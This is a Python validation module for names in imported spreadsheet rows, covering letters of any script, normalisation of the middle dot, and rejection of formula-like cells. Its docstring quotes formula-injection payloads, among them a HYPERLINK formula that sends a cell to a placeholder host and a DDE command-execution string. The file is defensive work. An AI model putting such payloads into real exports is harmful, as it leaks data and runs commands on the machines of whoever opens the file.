"""What a name in an imported file may hold: letters, the middle dot and spaces.

A person's name is letters of any script (汉字, Latin, Uyghur, Tibetan with its vowel signs), the
middle dot of transliterated names (阿卜杜拉·买买提) and spaces between words. Anything else in a
name cell is a mistake or an attack: a digit (居民1, a row number pasted into the name), a
control character, or a formula such as =HYPERLINK("http://x/?"&C2,"点击"), =cmd|' /C calc'!A0
or @SUM(…), which a spreadsheet opening an export would run. Such a row is refused with the
reason; nothing is "cleaned", since a clerk has to look at what the office really sent.

The middle dot is typed several ways (・ ‧ • ∙ ⋅ and the half-width ･); each is written as · so
that one person is one spelling.
"""
from __future__ import annotations

import unicodedata

MIDDLE_DOT = "\u00b7"
DOTS = {ord(dot): MIDDLE_DOT for dot in "\u30fb\uff65\u2027\u2022\u2219\u22c5"}
FORMULA_STARTS = ("=", "+", "-", "@")   # a spreadsheet reads a cell so begun as a formula
NAME_FORMULA = "name_formula"
NAME_CHARACTERS = "name_characters"


def spelled_name(name: str) -> str:
    """The name with every kind of middle dot written as ·."""
    return name.translate(DOTS)


def _allowed(character: str) -> bool:
    return character in (" ", MIDDLE_DOT) or unicodedata.category(character)[0] in "LM"


def name_fault(name: str) -> str | None:
    """Why `name` (as spelled_name writes it) is not a person's name: NAME_FORMULA for a cell a
    spreadsheet would run, NAME_CHARACTERS for anything but letters, · and spaces; None when it
    is one."""
    if name.startswith(FORMULA_STARTS):
        return NAME_FORMULA
    if not all(map(_allowed, name)) or not any(map(str.isalpha, name)):
        return NAME_CHARACTERS
    return None
